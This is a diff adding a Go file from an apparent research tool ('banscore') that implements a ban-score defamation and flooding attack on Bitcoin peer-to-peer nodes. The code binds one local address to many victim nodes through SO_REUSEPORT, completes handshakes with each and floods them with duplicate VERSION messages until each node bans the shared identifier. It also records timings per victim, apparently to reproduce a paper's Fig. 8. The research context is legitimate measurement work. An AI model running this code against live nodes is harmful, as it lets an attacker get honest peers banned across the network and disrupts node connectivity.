@@ -1,0 +1,198 @@
+package attack
+
+import (
+	"fmt"
+	"net"
+	"runtime"
+	"sync"
+	"syscall"
+	"time"
+
+	"banscore/internal/wire"
+)
+
+// soReusePort returns the platform's SO_REUSEPORT socket option number, or 0
+// where the option is unknown. The Linux value (15) is absent from the
+// syscall package, so it is spelled out here.
+func soReusePort() int {
+	switch runtime.GOOS {
+	case "linux":
+		return 0xf
+	case "darwin", "freebsd", "openbsd", "netbsd", "dragonfly":
+		return 0x200
+	}
+	return 0
+}
+
+// ReuseDialer returns a net.Dialer bound to laddr with SO_REUSEADDR and
+// SO_REUSEPORT set before bind. Ban tracking is [IP:port]-granular, so an
+// attacker that wants a fleet of victims to agree on WHICH identifier
+// misbehaved must present the same local port to every one of them — one
+// port, N concurrent connections to N distinct remotes. A plain dialer
+// cannot do that (the second bind to a busy local port fails); with
+// SO_REUSEPORT each connection is a distinct 4-tuple and the kernel allows
+// the shared bind.
+func ReuseDialer(laddr *net.TCPAddr, timeout time.Duration) *net.Dialer {
+	return &net.Dialer{
+		Timeout:   timeout,
+		LocalAddr: laddr,
+		Control: func(network, address string, c syscall.RawConn) error {
+			opt := soReusePort()
+			var serr error
+			if err := c.Control(func(fd uintptr) {
+				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_REUSEADDR, 1)
+				if serr == nil && opt != 0 {
+					serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, opt, 1)
+				}
+			}); err != nil {
+				return err
+			}
+			return serr
+		},
+	}
+}
+
+// FleetIdentity is one attacker identity holding live sessions to every
+// node of a fleet, all bound to the same local [IP:port] so each victim
+// attributes the misbehavior to the same identifier.
+type FleetIdentity struct {
+	// Local is the shared [IP:port] identifier every victim sees.
+	Local string
+	// Sessions holds one handshaken session per target, in target order.
+	Sessions []*Session
+}
+
+// DialFleet connects one identity to every target and completes the version
+// handshake on each session. The first dial lets the kernel pick the local
+// port; the remaining targets are dialed concurrently from that same port.
+// All dials and handshakes must succeed — a partially connected identity
+// would skew propagation measurements — so any failure closes everything
+// and errors out.
+func DialFleet(localIP string, targets []string, magic wire.BitcoinNet, timeout time.Duration) (*FleetIdentity, error) {
+	if len(targets) == 0 {
+		return nil, fmt.Errorf("attack: DialFleet with no targets")
+	}
+	ip := net.ParseIP(localIP)
+	if ip == nil {
+		return nil, fmt.Errorf("attack: bad local IP %q", localIP)
+	}
+	first, err := ReuseDialer(&net.TCPAddr{IP: ip}, timeout).Dial("tcp", targets[0])
+	if err != nil {
+		return nil, fmt.Errorf("fleet dial %s: %w", targets[0], err)
+	}
+	laddr := first.LocalAddr().(*net.TCPAddr)
+
+	fi := &FleetIdentity{
+		Local:    laddr.String(),
+		Sessions: make([]*Session, len(targets)),
+	}
+	fi.Sessions[0] = NewSession(first, magic)
+
+	// The rest share the now-fixed local port. Dial concurrently: each is a
+	// distinct 4-tuple, and serializing would stretch the window in which
+	// the identity exists on some victims but not others.
+	errs := make([]error, len(targets))
+	var wg sync.WaitGroup
+	for i := 1; i < len(targets); i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			conn, err := ReuseDialer(laddr, timeout).Dial("tcp", targets[i])
+			if err != nil {
+				errs[i] = fmt.Errorf("fleet dial %s from %s: %w", targets[i], laddr, err)
+				return
+			}
+			fi.Sessions[i] = NewSession(conn, magic)
+		}(i)
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			fi.Close()
+			return nil, err
+		}
+	}
+
+	for i, s := range fi.Sessions {
+		wg.Add(1)
+		go func(i int, s *Session) {
+			defer wg.Done()
+			if err := s.Handshake(timeout); err != nil {
+				errs[i] = fmt.Errorf("fleet handshake %s: %w", targets[i], err)
+			}
+		}(i, s)
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			fi.Close()
+			return nil, err
+		}
+	}
+	return fi, nil
+}
+
+// FleetFloodResult is one victim's view of a FloodAll run.
+type FleetFloodResult struct {
+	// Target the session was attacking.
+	Target string
+	// MessagesSent before the victim cut the connection (or maxMsgs hit).
+	MessagesSent uint64
+	// Elapsed from first attack message until the send loop ended.
+	Elapsed time.Duration
+	// Banned is true when the loop ended on a send error — the victim
+	// dropped the connection — rather than the message cap.
+	Banned bool
+}
+
+// FloodAll drives next() into every session concurrently until each victim
+// drops the connection (the ban signal) or maxMsgs is reached, and reports
+// per-victim counts and timings. delay is the inter-message delay (Fig. 8:
+// 0 vs 1 ms). Sessions are closed on return; the identity is spent.
+func (fi *FleetIdentity) FloodAll(targets []string, next func() wire.Message, delay time.Duration, maxMsgs int) []FleetFloodResult {
+	results := make([]FleetFloodResult, len(fi.Sessions))
+	var wg sync.WaitGroup
+	for i, s := range fi.Sessions {
+		wg.Add(1)
+		go func(i int, s *Session) {
+			defer wg.Done()
+			defer s.Close()
+			res := FleetFloodResult{Target: targets[i]}
+			start := time.Now()
+			for maxMsgs <= 0 || res.MessagesSent < uint64(maxMsgs) {
+				if err := s.Send(next()); err != nil {
+					res.Banned = true
+					break
+				}
+				res.MessagesSent++
+				if delay > 0 {
+					time.Sleep(delay)
+				}
+			}
+			res.Elapsed = time.Since(start)
+			results[i] = res
+		}(i, s)
+	}
+	wg.Wait()
+	return results
+}
+
+// Close tears down every open session.
+func (fi *FleetIdentity) Close() {
+	for _, s := range fi.Sessions {
+		if s != nil {
+			s.Close()
+		}
+	}
+}
+
+// VersionFlood returns a duplicate-VERSION message factory — the Fig. 8
+// Defamation payload (+1 misbehavior per delivery, ban at 100). Safe for
+// concurrent use: the message value is immutable once built.
+func VersionFlood() func() wire.Message {
+	me := wire.NewNetAddressIPPort(nil, 0, wire.SFNodeNetwork)
+	you := wire.NewNetAddressIPPort(nil, 0, 0)
+	return func() wire.Message {
+		return wire.NewMsgVersion(me, you, 1, 0)
+	}
+}
